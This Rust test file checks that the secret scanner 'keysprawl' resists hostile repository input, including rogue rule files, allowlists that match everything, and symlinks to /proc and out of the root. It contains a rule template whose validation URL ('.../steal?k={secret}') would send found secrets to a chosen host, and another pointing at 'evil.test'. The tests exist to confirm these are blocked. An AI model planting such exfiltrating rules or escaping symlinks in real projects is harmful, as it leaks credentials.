//! The bad-input matrix: what a scanned repository, its config, its links
//! and its files must not be able to do to keysprawl. One row per case;
//! each row builds the hostile input the way an attacker would (real files,
//! real git repositories made with the git CLI), runs the real binary and
//! says what must hold. Add a row to add a case.

mod common;

use std::net::TcpListener;
use std::path::Path;
use std::process::Output;
use std::time::Duration;

use common::*;

/// What a row expects of the run.
struct Case {
    name: &'static str,
    /// Build the input in the temp dir; returns the arguments to run with.
    setup: fn(&Path) -> Vec<String>,
    /// Check the output (exit code, report, stderr).
    check: fn(&Path, &Output),
}

fn token(seed: u64) -> String {
    github_token("ghp", seed)
}

/// A Datadog API key (32 hex) that is not one of the rules' examples.
fn dd_key(seed: u64) -> String {
    let mut x = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    (0..32)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            char::from(b"0123456789abcdef"[(x % 16) as usize])
        })
        .collect()
}

fn args(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| s.to_string()).collect()
}

fn locations(report: &serde_json::Value) -> Vec<String> {
    report["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .flat_map(|f| f["locations"].as_array().cloned().unwrap_or_default())
        .map(|l| {
            format!(
                "{}/{}",
                l["repo"].as_str().unwrap_or("-"),
                l["path"].as_str().unwrap_or("")
            )
        })
        .collect()
}

fn code(o: &Output) -> i32 {
    o.status.code().unwrap_or(-1)
}

/// A repository rule that claims GitHub tokens with a high priority and
/// sends them to a host of its own choosing.
fn evil_rule(url: &str) -> String {
    format!(
        r#"[[rules]]
id = "evil-github"
name = "Evil"
provider = "evil"
keywords = ["ghp_"]
pattern = '(?P<secret>ghp_[A-Za-z0-9]{{36}})'
priority = 10
lifetime = "static"
severity = "low"
examples = ["ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"]
[rules.validation]
url = "{url}"
live_status = [200]
"#
    )
}

/// A tree with one secret and a report of it (with secrets in clear) from an
/// earlier run; the next run shows secrets too, so a match on the report's
/// copy would be a real location.
fn earlier_report(d: &Path, format: &str, out: &str, seed: u64) -> Vec<String> {
    write(d, "src/a.env", format!("GH={}\n", token(seed)));
    let first = run(d, &["scan", ".", "-f", format, "--show-secrets", "-o", out]);
    assert_eq!(code(&first), 1, "{}", stderr(&first));
    args(&["scan", ".", "-f", "json", "--show-secrets"])
}

fn only_the_source_file(_: &Path, o: &Output) {
    let locs = locations(&json(o));
    assert_eq!(locs, vec!["./src/a.env".to_string()], "{locs:?}");
}

fn cases() -> Vec<Case> {
    vec![
        Case {
            name: "a repository rule with priority 10 does not replace github-pat",
            setup: |d| {
                write(d, "rules/evil.toml", evil_rule("https://evil.test/x"));
                write(d, ".keysprawl.toml", "[rules]\nextra = [\"rules\"]\n");
                write(d, "app.env", format!("GH={}\n", token(1)));
                args(&["scan", ".", "-f", "json"])
            },
            check: |_, o| {
                let ids = rule_ids(&json(o));
                assert_eq!(ids, vec!["github-pat"], "{ids:?}");
            },
        },
        Case {
            name: "a repository rule that is generic-shaped cannot hide a generic finding",
            setup: |d| {
                write(
                    d,
                    "rules/evil.toml",
                    r#"[[rules]]
id = "evil-password"
name = "Evil"
provider = "evil"
keywords = ["password"]
pattern = 'password = "(?P<secret>[^"]+)"'
lifetime = "static"
severity = "info"
examples = ['password = "x1y2z3w4v5"']
"#,
                );
                write(
                    d,
                    ".keysprawl.toml",
                    "[rules]\nextra = [\"rules/evil.toml\"]\n",
                );
                write(d, "db.py", "password = \"Hq7#mZ2pLw9xVt\"\n");
                args(&["scan", ".", "-f", "json"])
            },
            check: |_, o| {
                let report = json(o);
                let at_db: Vec<&str> = report["findings"]
                    .as_array()
                    .expect("findings")
                    .iter()
                    .filter(|f| f["locations"][0]["path"] == "db.py")
                    .map(|f| f["rule"]["id"].as_str().unwrap_or(""))
                    .collect();
                assert_eq!(at_db.len(), 1, "{at_db:?}");
                assert!(at_db[0].starts_with("generic-"), "{at_db:?}");
            },
        },
        Case {
            name: "a repository config may not name rule files outside the repository",
            setup: |d| {
                write(d, "outside.toml", evil_rule("https://evil.test/x"));
                write(
                    d,
                    "repo/.keysprawl.toml",
                    "[rules]\nextra = [\"../outside.toml\"]\n",
                );
                write(d, "repo/a.txt", "nothing\n");
                args(&["scan", "repo"])
            },
            check: |_, o| {
                assert_eq!(code(o), 2);
                assert!(
                    stderr(o).contains("outside its repository"),
                    "{}",
                    stderr(o)
                );
            },
        },
        Case {
            name: "a repository config that is a symlink out of the repository is refused",
            setup: |d| {
                write(d, "elsewhere.toml", "[allow]\npaths = [\"a.txt\"]\n");
                std::fs::create_dir_all(d.join("repo")).expect("mkdir");
                std::os::unix::fs::symlink(
                    d.join("elsewhere.toml"),
                    d.join("repo/.keysprawl.toml"),
                )
                .expect("symlink");
                write(d, "repo/a.txt", format!("{}\n", token(2)));
                args(&["scan", "repo"])
            },
            check: |_, o| {
                assert_eq!(code(o), 2);
                assert!(
                    stderr(o).contains("outside its repository"),
                    "{}",
                    stderr(o)
                );
            },
        },
        Case {
            name: "an allowlist that matches every path is an error, not a pass",
            setup: |d| {
                write(d, ".keysprawl.toml", "[allow]\npaths = [\"**\"]\n");
                write(d, "a.env", format!("GH={}\n", token(3)));
                args(&["scan", "."])
            },
            check: |_, o| {
                assert_eq!(code(o), 2);
                let e = stderr(o);
                assert!(
                    e.contains(".keysprawl.toml") && e.contains("every path"),
                    "{e}"
                );
            },
        },
        Case {
            name: "an allowlist that matches every secret is an error",
            setup: |d| {
                write(d, ".keysprawl.toml", "[allow]\nsecrets = ['.+']\n");
                write(d, "a.env", format!("GH={}\n", token(4)));
                args(&["scan", "."])
            },
            check: |_, o| {
                assert_eq!(code(o), 2);
                assert!(stderr(o).contains("every secret"), "{}", stderr(o));
            },
        },
        Case {
            name: "an .ignore that hides every file makes the run exit 2",
            setup: |d| {
                write(d, ".ignore", "*\n");
                write(d, "a.env", format!("GH={}\n", token(5)));
                args(&["scan", "."])
            },
            check: |_, o| {
                assert_eq!(code(o), 2);
                assert!(stderr(o).contains("nothing was scanned"), "{}", stderr(o));
            },
        },
        Case {
            name: "an empty directory is not a clean scan",
            setup: |d| {
                std::fs::create_dir_all(d.join("empty")).expect("mkdir");
                args(&["scan", "empty", "-f", "json"])
            },
            check: |_, o| {
                assert_eq!(code(o), 2);
                // The report is still written.
                assert_eq!(json(o)["summary"]["files_scanned"], 0);
            },
        },
        Case {
            name: "tracked files are scanned although .gitignore and .ignore match them",
            setup: |d| {
                git_init(d);
                write(d, ".gitignore", "secrets.env\n");
                write(d, ".ignore", "config/\n");
                write(d, "secrets.env", format!("GH={}\n", token(6)));
                write(d, "config/prod.env", format!("GH={}\n", token(7)));
                git(d, &["add", ".gitignore", ".ignore"]);
                git(d, &["add", "-f", "secrets.env", "config/prod.env"]);
                git(d, &["commit", "-q", "-m", "add"]);
                write(d, ".gitignore", "secrets.env\nuntracked-ignored.env\n");
                write(d, "untracked-ignored.env", format!("GH={}\n", token(8)));
                args(&["scan", ".", "-f", "json"])
            },
            check: |_, o| {
                let locs = locations(&json(o));
                assert!(locs.contains(&"./secrets.env".to_string()), "{locs:?}");
                assert!(locs.contains(&"./config/prod.env".to_string()), "{locs:?}");
                assert!(
                    !locs.iter().any(|l| l.contains("untracked-ignored")),
                    "{locs:?}"
                );
            },
        },
        Case {
            name: "in a multi-repository run each root has its own config",
            setup: |d| {
                write(d, "a/.keysprawl.toml", "[allow]\npaths = [\"creds.env\"]\n");
                write(d, "a/creds.env", format!("GH={}\n", token(9)));
                write(d, "b/creds.env", format!("GH={}\n", token(10)));
                args(&["scan", "a", "b", "-f", "json"])
            },
            check: |_, o| {
                let locs = locations(&json(o));
                assert_eq!(locs, vec!["b/creds.env".to_string()], "{locs:?}");
            },
        },
        Case {
            name: "the second root's config does not govern the first",
            setup: |d| {
                write(d, "a/creds.env", format!("GH={}\n", token(11)));
                write(d, "b/.keysprawl.toml", "[allow]\npaths = [\"creds.env\"]\n");
                write(d, "b/creds.env", format!("GH={}\n", token(12)));
                args(&["scan", "a", "b", "-f", "json"])
            },
            check: |_, o| {
                let locs = locations(&json(o));
                assert_eq!(locs, vec!["a/creds.env".to_string()], "{locs:?}");
            },
        },
        Case {
            name: "--range takes allowlists from the base revision, not from the change",
            setup: |d| {
                git_init(d);
                write(d, ".keysprawl.toml", "[allow]\npaths = [\"fixtures/**\"]\n");
                write(d, "README", "x\n");
                commit_at(d, "base", "2024-01-01T00:00:00Z");
                git(d, &["tag", "base"]);
                // The change allows its own secret and adds one where the base allows.
                write(
                    d,
                    ".keysprawl.toml",
                    "[allow]\npaths = [\"src/**\", \"fixtures/**\"]\n",
                );
                write(d, "src/app.env", format!("GH={}\n", token(13)));
                write(d, "fixtures/test.env", format!("GH={}\n", token(14)));
                commit_at(d, "change", "2024-01-02T00:00:00Z");
                args(&["scan", "--range", "base..HEAD", ".", "-f", "json"])
            },
            check: |_, o| {
                assert_eq!(code(o), 1, "{}", stderr(o));
                let locs = locations(&json(o));
                assert_eq!(locs, vec!["./src/app.env".to_string()], "{locs:?}");
            },
        },
        Case {
            name: "--staged takes allowlists from HEAD, not from the staged config",
            setup: |d| {
                git_init(d);
                write(d, "README", "x\n");
                commit_at(d, "base", "2024-01-01T00:00:00Z");
                write(d, ".keysprawl.toml", "[allow]\npaths = [\"app.env\"]\n");
                write(d, "app.env", format!("GH={}\n", token(15)));
                git(d, &["add", "-A"]);
                args(&["scan", "--staged", "-f", "json"])
            },
            check: |_, o| {
                assert_eq!(code(o), 1, "{}", stderr(o));
                assert!(locations(&json(o)).iter().any(|l| l.ends_with("app.env")));
            },
        },
        Case {
            name: "--config /dev/zero is refused at once",
            setup: |d| {
                write(d, "a.txt", "x\n");
                args(&["scan", ".", "--config", "/dev/zero"])
            },
            check: |_, o| {
                assert_eq!(code(o), 2);
                assert!(stderr(o).contains("not a regular file"), "{}", stderr(o));
            },
        },
        Case {
            name: "a FIFO as --config, --rules or --baseline never blocks",
            setup: |d| {
                write(d, "a.txt", "x\n");
                let fifo = d.join("pipe");
                let ok = std::process::Command::new("mkfifo")
                    .arg(&fifo)
                    .status()
                    .expect("mkfifo");
                assert!(ok.success());
                args(&["scan", ".", "--baseline", "pipe"])
            },
            check: |_, o| {
                assert_eq!(code(o), 2);
                assert!(stderr(o).contains("not a regular file"), "{}", stderr(o));
            },
        },
        Case {
            name: "symlinks out of the root, into .git and to /proc are not followed",
            setup: |d| {
                write(d, "outside/secret.env", format!("GH={}\n", token(16)));
                std::fs::create_dir_all(d.join("repo")).expect("mkdir");
                git_init(&d.join("repo"));
                write(d, "repo/.git/hooks/x.env", format!("GH={}\n", token(17)));
                write(d, "repo/inside/real.env", format!("GH={}\n", token(18)));
                let r = d.join("repo");
                let link = |to: &Path, name: &str| {
                    std::os::unix::fs::symlink(to, r.join(name)).expect("symlink")
                };
                link(&d.join("outside/secret.env"), "out.env");
                link(&d.join("outside"), "outdir");
                link(&r.join(".git/hooks/x.env"), "git.env");
                link(&r.join(".git/config"), "gitconfig");
                link(Path::new("/proc/self/pagemap"), "pagemap");
                link(Path::new("/proc/kmsg"), "kmsg");
                link(Path::new("/dev/zero"), "zero");
                link(Path::new("inside/real.env"), "in.env");
                args(&["scan", "repo", "-f", "json"])
            },
            check: |_, o| {
                let locs = locations(&json(o));
                let mut sorted = locs.clone();
                sorted.sort();
                assert_eq!(
                    sorted,
                    vec!["repo/in.env", "repo/inside/real.env"],
                    "{locs:?}"
                );
            },
        },
        Case {
            name: "a root under /proc is refused",
            setup: |_| args(&["scan", "/proc/self/pagemap"]),
            check: |_, o| {
                assert_eq!(code(o), 2);
                assert!(stderr(o).contains("/proc"), "{}", stderr(o));
            },
        },
        Case {
            name: "-o refuses to write through a symlink",
            setup: |d| {
                write(d, "a.env", format!("GH={}\n", token(19)));
                write(d, "victim", "keep me\n");
                std::os::unix::fs::symlink(d.join("victim"), d.join("report.json")).expect("link");
                args(&["scan", "a.env", "-f", "json", "-o", "report.json"])
            },
            check: |d, o| {
                assert_eq!(code(o), 2);
                assert!(stderr(o).contains("symbolic link"), "{}", stderr(o));
                let victim = std::fs::read_to_string(d.join("victim")).expect("victim");
                assert_eq!(victim, "keep me\n");
            },
        },
        Case {
            name: "a report with secrets in clear is written 0600",
            setup: |d| {
                write(d, "a.env", format!("GH={}\n", token(20)));
                args(&[
                    "scan",
                    "a.env",
                    "-f",
                    "json",
                    "--show-secrets",
                    "-o",
                    "out.json",
                ])
            },
            check: |d, o| {
                use std::os::unix::fs::PermissionsExt;
                assert_eq!(code(o), 1, "{}", stderr(o));
                let mode = std::fs::metadata(d.join("out.json"))
                    .expect("report")
                    .permissions();
                assert_eq!(mode.mode() & 0o777, 0o600);
            },
        },
        Case {
            name: "an earlier report in the tree is not a new location of its secrets",
            setup: |d| earlier_report(d, "json", "keysprawl.json", 21),
            check: only_the_source_file,
        },
        Case {
            name: "an earlier SARIF report in the tree is not a new location either",
            setup: |d| earlier_report(d, "sarif", "out.sarif", 22),
            check: only_the_source_file,
        },
        Case {
            name: "an earlier JSON Lines report in the tree is not a new location either",
            setup: |d| earlier_report(d, "jsonl", "out.jsonl", 23),
            check: only_the_source_file,
        },
        Case {
            name: "a secret in a file dressed as a report is still found",
            setup: |d| {
                write(
                    d,
                    "fake.json",
                    format!(
                        "{{\"version\": 1, \"tool\": {{\"name\": \"keysprawl\"}}, \"findings\": [], \"x\": \"{}\"}}\n",
                        token(24)
                    ),
                );
                args(&["scan", ".", "-f", "json"])
            },
            check: |_, o| {
                let locs = locations(&json(o));
                assert_eq!(locs, vec!["./fake.json".to_string()], "{locs:?}");
            },
        },
        Case {
            name: "absurd numeric flags are refused with a clear error",
            setup: |d| {
                write(d, "a.txt", "x\n");
                args(&["scan", ".", "-j", "100000"])
            },
            check: |_, o| {
                assert_eq!(code(o), 2);
                assert!(stderr(o).contains("256"), "{}", stderr(o));
            },
        },
        Case {
            name: "a companion distance beyond the cap is a rule error naming file and rule",
            setup: |d| {
                write(
                    d,
                    "my.toml",
                    r#"[[rules]]
id = "far"
name = "Far"
provider = "x"
keywords = ["zzkey_"]
pattern = '(?P<secret>zzkey_[a-z0-9]{16})'
lifetime = "static"
severity = "low"
examples = ["zzkey_a1b2c3d4e5f6g7h8 id=q"]
[[rules.companions]]
name = "id"
pattern = 'id=(?P<value>\w+)'
within = 1000000000000
"#,
                );
                write(d, "a.txt", "x\n");
                args(&["scan", ".", "--rules", "my.toml"])
            },
            check: |_, o| {
                assert_eq!(code(o), 2);
                let e = stderr(o);
                assert!(
                    e.contains("my.toml") && e.contains("far") && e.contains("within"),
                    "{e}"
                );
            },
        },
        Case {
            name: "every repository unreadable: exit 2",
            setup: |d| {
                std::fs::create_dir_all(d.join("x")).expect("mkdir");
                std::fs::create_dir_all(d.join("y")).expect("mkdir");
                args(&["scan", "--history", "x", "y"])
            },
            check: |_, o| assert_eq!(code(o), 2, "{}", stderr(o)),
        },
    ]
}

/// Run keysprawl, killing it if it hangs (a hang is a failure, not a wait).
fn run_bounded(dir: &Path, args: &[String]) -> Output {
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    run_env(dir, &args, &[], Duration::from_secs(120))
}

#[test]
fn bad_input_matrix() {
    let mut failed = Vec::new();
    for case in cases() {
        let dir = tempfile::tempdir().expect("tempdir");
        let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            let argv = (case.setup)(dir.path());
            let out = run_bounded(dir.path(), &argv);
            (case.check)(dir.path(), &out)
        }));
        if result.is_err() {
            failed.push(case.name);
        }
    }
    assert!(failed.is_empty(), "cases failed: {failed:#?}");
}

/// A rule from a scanned repository never validates: its declared host
/// gets no connection, even with `--validate`.
#[test]
fn repository_rules_never_send_a_secret_anywhere() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    listener.set_nonblocking(true).expect("nonblocking");
    let port = listener.local_addr().expect("addr").port();
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    write(
        d,
        "rules/zz.toml",
        format!(
            r#"[[rules]]
id = "exfil"
name = "Exfil"
provider = "evil"
keywords = ["zzq_"]
pattern = '(?P<secret>zzq_[A-Za-z0-9]{{24}})'
lifetime = "static"
severity = "low"
examples = ["zzq_abcdefghijklmnopqrstuvwx"]
[rules.validation]
url = "https://127.0.0.1:{port}/steal?k={{secret}}"
live_status = [200]
"#
        ),
    );
    write(d, ".keysprawl.toml", "[rules]\nextra = [\"rules\"]\n");
    write(d, "a.txt", "zzq_Q8x2Lm9V4b7NqW3e5R6t7Y8u\n");
    let out = run_bounded(d, &args(&["scan", ".", "--validate", "-f", "json"]));
    let report = json(&out);
    assert_eq!(rule_ids(&report), vec!["exfil"], "{}", stderr(&out));
    assert_eq!(
        report["findings"][0]["validation"]["status"], "unknown",
        "{report}"
    );
    assert!(
        listener.accept().is_err(),
        "a repository rule's validation reached its host"
    );
}

/// Secrets whose rule needs the text before them (`DD_API_KEY=`, an AWS
/// key id companion) are found when their value starts right at a chunk
/// boundary, in a large file and on standard input.
#[test]
fn nothing_is_lost_at_a_chunk_boundary() {
    use keysprawl::matcher::Matcher;
    use keysprawl::rules::RuleSet;
    use keysprawl::scan::Scanner;
    // `--max-file-size 1K` makes chunks as small as the rules allow.
    let set = RuleSet::embedded().expect("rules");
    let scanner = Scanner::new(Matcher::new(&set).expect("matcher"), 1024);
    let boundary = scanner.chunk_size();
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let mut expected = Vec::new();
    let filler_line = "lorem ipsum dolor sit amet consectetur adipiscing\n";
    for (i, shift) in [0usize, 1, 2, 5, 17, 40].into_iter().enumerate() {
        let key = dd_key(i as u64 + 100);
        let prefix = "DD_API_KEY=";
        // The value starts `shift` bytes after the boundary.
        let start = boundary + shift - prefix.len();
        let mut text = String::new();
        while text.len() + filler_line.len() < start {
            text.push_str(filler_line);
        }
        text.push_str(&"x".repeat(start - text.len() - 1));
        text.push('\n');
        text.push_str(prefix);
        text.push_str(&key);
        text.push('\n');
        for _ in 0..2000 {
            text.push_str(filler_line);
        }
        write(d, &format!("big{i}.env"), &text);
        expected.push((format!("big{i}.env"), key, text));
    }
    for (name, key, text) in &expected {
        let out = run_bounded(
            d,
            &args(&[
                "scan",
                name,
                "--max-file-size",
                "1K",
                "-f",
                "json",
                "--show-secrets",
            ]),
        );
        let found: Vec<String> = json(&out)["findings"]
            .as_array()
            .expect("findings")
            .iter()
            .map(|f| f["secret"].as_str().unwrap_or("").to_string())
            .collect();
        assert!(found.contains(key), "{name}: {found:?}");
        let out = run_stdin(
            d,
            &[
                "scan",
                "-",
                "--max-file-size",
                "1K",
                "-f",
                "json",
                "--show-secrets",
            ],
            text.as_bytes(),
        );
        let found: Vec<String> = json(&out)["findings"]
            .as_array()
            .expect("findings")
            .iter()
            .map(|f| f["secret"].as_str().unwrap_or("").to_string())
            .collect();
        assert!(found.contains(key), "stdin {name}: {found:?}");
    }
}

/// The same holds for a large blob in history.
#[test]
fn nothing_is_lost_at_a_chunk_boundary_of_a_blob() {
    use keysprawl::matcher::Matcher;
    use keysprawl::rules::RuleSet;
    use keysprawl::scan::Scanner;
    let set = RuleSet::embedded().expect("rules");
    let boundary = Scanner::new(Matcher::new(&set).expect("matcher"), 1024).chunk_size();
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    git_init(d);
    let key = dd_key(7);
    let prefix = "DD_API_KEY=";
    let start = boundary + 3 - prefix.len();
    let mut text = "y".repeat(start - 1);
    text.push('\n');
    text.push_str(prefix);
    text.push_str(&key);
    text.push('\n');
    text.push_str(&"z\n".repeat(100_000));
    write(d, "big.env", &text);
    commit_at(d, "big", "2024-01-01T00:00:00Z");
    std::fs::remove_file(d.join("big.env")).expect("rm");
    commit_at(d, "rm", "2024-01-02T00:00:00Z");
    let out = run_bounded(
        d,
        &args(&[
            "scan",
            "--history",
            ".",
            "--max-file-size",
            "1K",
            "-f",
            "json",
            "--show-secrets",
        ]),
    );
    let found: Vec<String> = json(&out)["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|f| f["secret"].as_str().unwrap_or("").to_string())
        .collect();
    assert!(found.contains(&key), "{found:?} {}", stderr(&out));
}

/// A panic while scanning one file (injected; debug builds only) costs that
/// file: the report is written, names it, and the other files' findings stand.
#[test]
fn a_panicking_worker_does_not_take_the_report_down() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    write(d, "good.env", format!("GH={}\n", token(30)));
    write(d, "boom.env", format!("GH={}\n", token(31)));
    let out = std::process::Command::new(bin())
        .args(["scan", ".", "-f", "json"])
        .current_dir(d)
        .env("KEYSPRAWL_TEST_PANIC_ON", "boom.env")
        .output()
        .expect("run");
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let report = json(&out);
    assert_eq!(locations(&report), vec!["./good.env".to_string()]);
    let errors = report["summary"]["errors"].to_string();
    assert!(
        errors.contains("boom.env") && errors.contains("internal error"),
        "{errors}"
    );
    assert!(!stderr(&out).contains(&token(31)));
}
